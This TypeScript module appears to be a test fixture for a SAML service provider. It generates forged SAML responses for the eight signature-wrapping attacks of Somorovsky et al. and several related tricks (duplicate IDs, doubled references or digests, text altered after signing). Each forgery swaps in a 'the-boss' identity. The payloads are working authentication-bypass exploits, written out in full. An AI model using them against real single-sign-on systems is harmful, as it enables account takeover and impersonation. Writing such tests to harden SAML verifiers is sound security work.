import { randomUUID } from 'node:crypto';
import { base64, type Draft, type SamlProvider } from './saml-provider.ts';

/** Changes an honest answer about oneself into one about somebody else; gives the form's field. */
export type ForgeSaml = (provider: SamlProvider, draft: Draft) => string;

const OBJECT = (inside: string) => `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${inside}</ds:Object>`;
const SIGNATURE = /<ds:Signature .*<\/ds:Signature>/s;
const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/s;

const victim = (draft: Draft): Draft => ({
  ...draft,
  nameId: draft.nameId.replace(/>[^<]+</, '>the-boss<'),
  attributes: [['email', `boss@${draft.attributes[0]![1].split('@')[1]}`]],
});
const signatureOf = (xml: string) => SIGNATURE.exec(xml)![0];
const assertionOf = (xml: string) => ASSERTION.exec(xml)![0];
const bare = (xml: string) => xml.replace(SIGNATURE, '');
// Behind an element's issuer, where a signature belongs.
const behindIssuer = (xml: string, more: string) => xml.replace('</saml:Issuer>', `</saml:Issuer>${more}`);
const inside = (xml: string, name: string, more: string) =>
  xml.replace(new RegExp(`</${name}>(?![\\s\\S]*</${name}>)`), `${more}</${name}>`);

/** The pieces of signature wrapping: a signed assertion and response, and a false assertion. */
function pieces(provider: SamlProvider, draft: Draft) {
  const signed = provider.write(draft, 'assertion');
  const whole = provider.write(draft, 'response');
  return { signed, whole, evil: provider.assertion(victim(draft), `_${randomUUID()}`) };
}

/** The eight shapes of signature wrapping (Somorovsky et al., “On Breaking SAML”), and what is near to them. */
export const WRAPPED: Record<string, ForgeSaml> = {
  'wrapping 1: the signed response inside the signature of a false one': (provider, draft) => {
    const { whole, evil } = pieces(provider, draft);
    const signature = signatureOf(whole).replace('</ds:Signature>', `${bare(whole)}</ds:Signature>`);
    return base64(behindIssuer(provider.response(draft, evil), signature));
  },
  'wrapping 2: the signed response beside its signature in a false one': (provider, draft) => {
    const { whole, evil } = pieces(provider, draft);
    return base64(behindIssuer(provider.response(draft, evil), signatureOf(whole) + bare(whole)));
  },
  'wrapping 3: a false assertion before the signed one': (provider, draft) => {
    const { signed, evil } = pieces(provider, draft);
    return base64(signed.replace('<saml:Assertion ', `${evil}<saml:Assertion `));
  },
  'wrapping 4: the signed assertion inside a false one': (provider, draft) => {
    const { signed, evil } = pieces(provider, draft);
    return base64(provider.response(draft, inside(evil, 'saml:Assertion', assertionOf(signed))));
  },
  'wrapping 5: the signature moved into a false assertion, the signed one behind it': (provider, draft) => {
    const { signed, evil } = pieces(provider, draft);
    const moved = behindIssuer(evil, signatureOf(signed));
    return base64(provider.response(draft, moved + bare(assertionOf(signed))));
  },
  'wrapping 6: the signed assertion inside the signature of a false one': (provider, draft) => {
    const { signed, evil } = pieces(provider, draft);
    const signature = inside(signatureOf(signed), 'ds:Signature', bare(assertionOf(signed)));
    return base64(provider.response(draft, behindIssuer(evil, signature)));
  },
  'wrapping 7: the signed assertion in an extension': (provider, draft) => {
    const { signed, evil } = pieces(provider, draft);
    const extension = `<samlp:Extensions>${assertionOf(signed)}</samlp:Extensions>`;
    return base64(provider.response(draft, extension + evil));
  },
  'wrapping 8: the signed assertion in an object of the signature': (provider, draft) => {
    const { signed, evil } = pieces(provider, draft);
    const signature = inside(signatureOf(signed), 'ds:Signature', OBJECT(bare(assertionOf(signed))));
    return base64(provider.response(draft, behindIssuer(evil, signature)));
  },
  'a false assertion behind the signed one': (provider, draft) => {
    const { signed, evil } = pieces(provider, draft);
    return base64(inside(signed, 'samlp:Response', evil));
  },
  'a false assertion with the ID of the signed one': (provider, draft) => {
    const { signed } = pieces(provider, draft);
    const id = /<saml:Assertion [^>]*ID="([^"]+)"/.exec(signed)![1]!;
    return base64(signed.replace('<saml:Assertion ', `${provider.assertion(victim(draft), id)}<saml:Assertion `));
  },
  'the false assertion in place of the signed one, its signature kept': (provider, draft) => {
    const { signed, evil } = pieces(provider, draft);
    return base64(signed.replace(ASSERTION, behindIssuer(evil, signatureOf(signed))));
  },
  'two references in one signature': (provider, draft) => {
    const { signed } = pieces(provider, draft);
    const reference = /<ds:Reference .*<\/ds:Reference>/s.exec(signed)![0];
    return base64(signed.replace(reference, reference + reference));
  },
  'a second digest in the reference': (provider, draft) => {
    const { signed } = pieces(provider, draft);
    return base64(signed.replace('</ds:DigestValue>', '</ds:DigestValue><ds:DigestValue>AAAA</ds:DigestValue>'));
  },
  'a second list of what is signed': (provider, draft) => {
    const { signed } = pieces(provider, draft);
    const info = /<ds:SignedInfo>.*<\/ds:SignedInfo>/s.exec(signed)![0];
    return base64(signed.replace(info, info + info));
  },
  'words changed after signing': (provider, draft) =>
    base64(provider.write(draft).replaceAll(draft.attributes[0]![1], victim(draft).attributes[0]![1])),
  'words of a signed response changed': (provider, draft) =>
    base64(provider.write(draft, 'response').replaceAll(draft.attributes[0]![1], victim(draft).attributes[0]![1])),
  'a right assertion in a response whose signature does not hold': (provider, draft) =>
    base64(provider.write(draft, 'both').replace('<samlp:Status>', '<samlp:Status xml:lang="en">')),
};
